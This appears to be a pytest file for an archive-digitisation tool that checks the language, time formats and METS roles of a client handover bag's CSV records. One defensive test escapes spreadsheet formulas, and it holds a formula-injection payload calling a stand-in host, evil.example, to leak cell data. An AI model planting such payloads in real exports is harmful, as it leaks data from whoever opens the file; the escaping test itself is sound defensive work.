"""The handover bag's record files are for the client: labels in the project's language
(Chinese by default, English when chosen), local times to the second, the QC sample in words,
no command advice and no empty placeholders; METS names the client as custodian."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from dangan_index_fixtures import add_volume, write_catalogue
from lxml import etree

from dangan.db.models import (
    BorrowBatch,
    Defect,
    QCInspection,
    Rework,
    StageEvent,
    Volume,
    WorkBatch,
)
from dangan.domain import workflow as wf
from dangan.export.mets import METS
from dangan.i18n import set_language
from dangan.services import indexing
from dangan.services.delivery import handover, packaging
from workflow.helpers import actor

CODE = "1998-民-0001-0007"
AT = datetime(2026, 11, 27, 3, 41, 36, 190230, tzinfo=UTC)
ADVICE = "缺页：缺少第 3 页（前后为  和 ）；补扫后以此页号命名放入，或用 dangan renumber 插入"


def _records(ctx: Any) -> None:
    """A QC round that failed on a missing page, its rework verified, an original's fault."""
    with ctx.transaction() as s:
        borrow = BorrowBatch(project_id=ctx.project_id, no=1, status=wf.BORROW_RETURNED)
        s.add(borrow)
        s.flush()
        batch = WorkBatch(project_id=ctx.project_id, borrow_batch_id=borrow.id, code="1-1-1",
                          seq=1, total=1, stage=wf.DONE, status=wf.FINISHED)
        s.add(batch)
        s.flush()
        vol = s.query(Volume).filter_by(archive_code=CODE).one()
        vol.work_batch_id, vol.borrow_batch_id = batch.id, borrow.id
        s.add(QCInspection(work_batch_id=batch.id, round=1, seed=3, population=6, decided_at=AT,
                           decision="fail", pass_rate=5 / 6, sample=[
                               {"volume_id": vol.id, "archive_code": CODE, "unit": "item", "key": 1},
                               {"volume_id": vol.id, "archive_code": CODE, "unit": "item", "key": 2},
                               {"volume_id": vol.id, "archive_code": CODE, "unit": "page", "key": 4}]))
        missing = Defect(project_id=ctx.project_id, volume_id=vol.id, work_batch_id=batch.id,
                         page_no=3, code="missing_page", source="qc", stage=wf.SCAN,
                         status="verified", found_at=AT, message="第3页与第4页之间漏扫一页",
                         data={"item_seq": None, "params": {
                             "volume": CODE, "page": 3, "note": "第3页与第4页之间漏扫一页"}})
        faded = Defect(project_id=ctx.project_id, volume_id=vol.id, page_no=2, code="blurred",
                       source="qc", status="noted", cause="original", found_at=AT,
                       data={"params": {"page": 2, "note": "原卷字迹褪色"}})
        s.add_all([missing, faded])
        s.flush()
        rework = Rework(project_id=ctx.project_id, work_batch_id=batch.id, volume_id=vol.id,
                        defect_id=missing.id, stage=wf.SCAN, reason=ADVICE + " 第3页与第4页之间漏扫一页",
                        status="verified", created_at=AT, done_at=AT, verified_at=AT)
        s.add(rework)
        s.flush()
        s.add(StageEvent(project_id=ctx.project_id, kind=wf.EVENT_REWORK_OPEN, stage=wf.SCAN,
                         volume_id=vol.id, work_batch_id=batch.id, person="赵敏", at=AT,
                         remarks=rework.reason,
                         data={"rework_id": rework.id, "defect_id": missing.id}))
        s.add(StageEvent(project_id=ctx.project_id, kind=wf.EVENT_BORROW_LIST, stage=wf.BORROW,
                         volume_id=vol.id, borrow_batch_id=borrow.id, person="李明", at=AT,
                         data={"seq": 1}))


def _bag(ctx: Any, tmp_path: Path, name: str, note: str = "") -> Path:
    add_volume(ctx, CODE, 4, size=(400, 566))
    path = write_catalogue(tmp_path / "目录.xlsx", [[CODE, "张三诉李四", "1998", "永久", 1, 4]],
                           [[CODE, 1, "", "张三", "起诉状", "19980105", "1", ""]])
    indexing.import_catalogue(ctx, actor(ctx, "钱标", "indexer", "uploader"), [path])
    packaging.package(ctx, actor(ctx, "钱标", "indexer", "uploader"), "pdf")
    _records(ctx)
    if note:  # what a QC inspector typed, on a defect and on an event
        with ctx.transaction() as s:
            vol = s.query(Volume).filter_by(archive_code=CODE).one()
            s.add(Defect(project_id=ctx.project_id, volume_id=vol.id, page_no=1, code="skew",
                         source="qc", status="noted", found_at=AT,
                         data={"params": {"page": 1, "note": note}}))
            s.add(StageEvent(project_id=ctx.project_id, kind=wf.EVENT_BORROW_LIST,
                             stage=wf.BORROW, volume_id=vol.id, person="=1+1", at=AT,
                             remarks=note, data={"seq": 2}))
    return handover.build_handover(ctx, tmp_path / name).path


def _csv(bag: Path, name: str) -> list[list[str]]:
    text = (bag / "data" / "records" / name).read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _local(at: datetime) -> str:
    return at.astimezone().strftime("%Y-%m-%d %H:%M:%S")


def test_the_bag_records_speak_the_clients_language(project: Any, tmp_path: Path) -> None:
    bag = _bag(project, tmp_path, "out.bag")
    problems = _csv(bag, "问题记录.csv")
    assert problems[0] == ["档号", "件号", "页号", "问题", "级别", "发现方式", "处理状态", "说明", "发现时间"]
    assert problems[1] == [CODE, "", "3", "缺页", "错误", "质检", "已复检", "第3页与第4页之间漏扫一页",
                           _local(AT)]
    assert problems[2][3:8] == ["模糊", "错误", "质检", "原卷错误，已记录", "原卷字迹褪色"]
    qc = _csv(bag, "质检记录.csv")
    assert qc[1][5] == f"{CODE}：第 1 件、第 2 件、第 4 页"
    assert qc[1][6:] == ["不合格", "83.3%", _local(AT)]
    rework = _csv(bag, "返工记录.csv")
    assert rework[1] == [CODE, "扫描", "", "缺页 第3页与第4页之间漏扫一页", "已复检",
                         _local(AT), _local(AT), _local(AT)]
    events = _csv(bag, "过程记录.csv")
    assert events[0] == ["档号", "小批次", "借卷批次", "时间", "环节", "事件", "签名", "备注"]
    by_kind = {r[5]: r for r in events[1:]}
    assert by_kind["列入借卷登记"][2:5] == ["1", _local(AT), "借卷"]
    assert by_kind["返工"][7] == "缺页 第3页与第4页之间漏扫一页"
    for name in ("问题记录.csv", "质检记录.csv", "返工记录.csv", "过程记录.csv"):
        text = (bag / "data" / "records" / name).read_text(encoding="utf-8-sig")
        assert "dangan" not in text and "{" not in text and "  和 " not in text, name
        assert not re.search(r"\d{2}:\d{2}:\d{2}\.\d", text), name  # no microseconds
        assert not re.search(r"\b(skew|error|line|verified|open|retouch|borrow_list|fail)\b",
                             text), name
    root = etree.fromstring((bag / "data" / "mets.xml").read_bytes())
    agents = root.findall(f"{{{METS}}}metsHdr/{{{METS}}}agent")
    assert [(a.get("ROLE"), a.get("TYPE")) for a in agents] == [("CUSTODIAN", "ORGANIZATION"),
                                                                ("CREATOR", "OTHER")]


@pytest.fixture
def english() -> Any:
    set_language("en")
    yield
    set_language(None)


def test_the_bag_records_in_english(project: Any, tmp_path: Path, english: Any) -> None:
    bag = _bag(project, tmp_path, "en.bag")
    problems = _csv(bag, "问题记录.csv")
    assert problems[0][:4] == ["Archive code", "Item", "Page", "Problem"]
    assert problems[1][3:7] == ["Missing page", "error", "quality inspection", "verified"]
    assert _csv(bag, "质检记录.csv")[1][5] == f"{CODE}: item 1, item 2, page 4"
    assert _csv(bag, "返工记录.csv")[1][1] == "Scan"


def test_the_bag_records_show_typed_formulas_as_text(project: Any, tmp_path: Path) -> None:
    """A note typed as a formula is text when the client opens the records in Excel or WPS
    (a leading single quote), and the bag still verifies: its manifest is of the bytes
    written."""
    note = '=HYPERLINK("http://evil.example/steal?"&B5,"详情")'
    bag = _bag(project, tmp_path, "f.bag", note=note)
    handover.verify_handover(bag)
    assert "'" + note in [row[7] for row in _csv(bag, "问题记录.csv")[1:]]
    events = _csv(bag, "过程记录.csv")[1:]
    assert ["'=1+1", "'" + note] in [row[6:] for row in events]
    for name in ("问题记录.csv", "质检记录.csv", "返工记录.csv", "过程记录.csv"):
        for row in _csv(bag, name):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), (name, row)
